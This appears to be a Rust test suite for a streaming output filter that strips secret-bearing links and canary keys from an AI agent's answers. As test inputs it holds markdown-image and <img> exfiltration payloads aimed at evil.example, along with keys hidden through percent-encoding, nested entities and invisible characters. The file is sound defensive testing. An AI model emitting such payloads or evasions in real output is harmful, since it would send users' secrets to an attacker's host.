//! A streamed final answer equals the whole one for every split, and the buffer is bounded.

use tests::{MAIL_KEY, SEARCH, SHOP_KEY, Session};

use crate::corpus::{HONEST, KNOWN};
use crate::links::{Numbers, bench};
use crate::readers::live;

/// The seed of the generated texts and splits.
const SEED: u64 = 0x57_2ea4;

/// Releases pieces. Each released piece is scanned for canaries together with its neighbours.
fn pieces<'a>(session: &Session, pieces: impl IntoIterator<Item = &'a str>) -> String {
    let mut stream = session.release_stream();
    let mut out = String::new();
    for piece in pieces {
        out.push_str(&stream.push(piece));
    }
    out + &stream.finish()
}

fn texts() -> Vec<String> {
    let percent: String =
        SHOP_KEY.bytes().fold(String::new(), |out, byte| out + &format!("%{byte:02x}"));
    let nested: String =
        SHOP_KEY.chars().fold(String::new(), |out, c| out + &format!("&#x26;#{};", u32::from(c)));
    let own = [
        format!("The key is {SHOP_KEY}, or {MAIL_KEY}; {SHOP_KEY}{MAIL_KEY}({SHOP_KEY}:x) shop-can"),
        format!("{percent} and {nested} and 100% & more \\u0073 {}\\u002d{}", &SHOP_KEY[..4], &SHOP_KEY[5..]),
        format!("{}\u{200b}{} \u{1b}[2J \u{202e}x", &SHOP_KEY[..5], &SHOP_KEY[5..]),
        "\u{27e6}untrusted 0123456789abcdef\u{27e7}hi\u{27e6}end 0123456789abcdef\u{27e7} \u{27e6}end \u{27e6}untrusted 0123\u{27e7} \u{27e6}".to_owned(),
        "Take Sku#1, Sku#12, XSku#1, Sku#1x, Sku#0000001, Sku#, Sku # 1, averylongwordwithoutend#1 Sku#1".to_owned(),
        "a\u{200d}b \u{1f468}\u{200d}\u{1f469} \u{2764}\u{fe0f} x\r\ny\rz".to_owned(),
    ];
    own.into_iter()
        .chain(KNOWN.iter().chain(HONEST).map(|text| format!("So: {text} and on.")))
        .collect()
}

#[tokio::test]
async fn every_split_of_a_text_gives_the_same_result() {
    let bench = bench().await;
    let session = bench.session();
    assert!(
        session.call("search_products", SEARCH).await.answer().is_some(),
        "so that there is a handle"
    );
    for text in texts() {
        let whole = session.release(&text);
        for cut in text.char_indices().map(|(at, _)| at) {
            assert_eq!(
                pieces(&session, [&text[..cut], &text[cut..]]),
                whole,
                "cut at {cut}: {text:?}"
            );
        }
        let single: Vec<String> = text.chars().map(String::from).collect();
        assert_eq!(
            pieces(&session, single.iter().map(String::as_str)),
            whole,
            "in single letters: {text:?}"
        );
    }
}

#[tokio::test]
async fn generated_texts_in_random_pieces_give_the_same_result() {
    let bench = bench().await;
    let session = bench.session();
    let mut numbers = Numbers(SEED);
    println!("seed {SEED:#x}");
    for _ in 0..6_000 {
        let text = numbers.text(24);
        let whole = session.release(&text);
        let most = 1 + numbers.below(9);
        let (mut rest, mut parts) = (text.as_str(), Vec::new());
        while !rest.is_empty() {
            let (part, after) =
                rest.split_at(rest.ceil_char_boundary((1 + numbers.below(most)).min(rest.len())));
            parts.push(part);
            rest = after;
        }
        assert_eq!(pieces(&session, parts.iter().copied()), whole, "{parts:?}");
    }
}

#[tokio::test]
async fn plain_text_is_released_at_once() {
    let bench = bench().await;
    let mut stream = bench.session().release_stream();
    let mut out = String::new();
    let mut pushed = String::new();
    for word in
        "The blue kettle costs 39.90 euros, is in stock (4 left), and can be there on Tuesday; shall I order it for you? \u{4eca}\u{65e5}"
            .split_inclusive(' ')
    {
        out.push_str(&stream.push(word));
        pushed.push_str(word);
        assert!(pushed.starts_with(&out) && out.len() + 12 >= pushed.len(), "{out:?} of {pushed:?}");
    }
    assert_eq!(out + &stream.finish(), pushed);
}

#[tokio::test]
async fn a_link_is_released_when_it_ends() {
    let bench = bench().await;
    let mut stream = bench.session().release_stream();
    assert_eq!(stream.push("See [the page](https://evil.exam"), "See [the page");
    let rest = stream.push("ple/x?secret=1) for more, and then some more words of text.");
    assert!(rest.starts_with("] (link removed: evil[.]example) for more"), "{rest:?}");
    assert!(stream.held() < 16);
}

#[tokio::test]
async fn an_unterminated_construct_is_safe_and_bounded_in_memory() {
    let bench = bench().await;
    let session = bench.session();
    let escaped: String = SHOP_KEY
        .chars()
        .fold(String::new(), |out, c| out + &format!("&{}#{};", "amp;".repeat(2), u32::from(c)));
    for (start, more) in [
        ("![x](https://evil.example/?q=", "secretdata"),
        ("![x](<https://evil.example/", "secretdata"),
        ("![x](https://evil.example/ \"", "title and on "),
        ("![x](", "       "),
        ("[r]: ", "x"),
        ("<img src='https://evil.example/", "secretdata"),
        ("<img ", "a b c "),
        ("<img alt=\"", "words "),
        ("https://", "evil."),
        ("https://evil.example/", "abc"),
        ("https://ok.example", ")"),
        ("&colon;", "a"),
        ("https&colon;//", "evil.example"),
        ("", "&amp;"),
        ("", "%25"),
        ("", "\\"),
        ("", "shop-can"),
        ("", "\u{27e6}"),
        ("Sku", "u"),
        ("Sku#", "1"),
        ("", "["),
        ("", "\u{200d}"),
        ("s", escaped.as_str()),
    ] {
        let mut stream = session.release_stream();
        let mut out = stream.push(start);
        for _ in 0..4_000 {
            out.push_str(&stream.push(more));
            assert!(stream.held() <= 40_000, "{start} {more}: {} bytes", stream.held());
        }
        out.push_str(&stream.finish());
        assert!(!out.contains(SHOP_KEY));
        // The parsers are slow on texts of this size, so only the beginning is checked.
        let beginning = &out[..out.floor_char_boundary(30_000)];
        let live = live(beginning);
        assert!(
            live.is_empty(),
            "{start} {more}: {:?}",
            live.iter().map(|found| &found[..found.floor_char_boundary(80)]).collect::<Vec<_>>()
        );
    }
}

#[tokio::test]
async fn debug_output_of_a_stream_contains_no_text() {
    let bench = bench().await;
    let mut stream = bench.session().release_stream();
    let out = stream.push(&SHOP_KEY[..12]);
    assert!(out.is_empty() && stream.held() == 12);
    assert!(!format!("{stream:?}").contains("canary"));
}
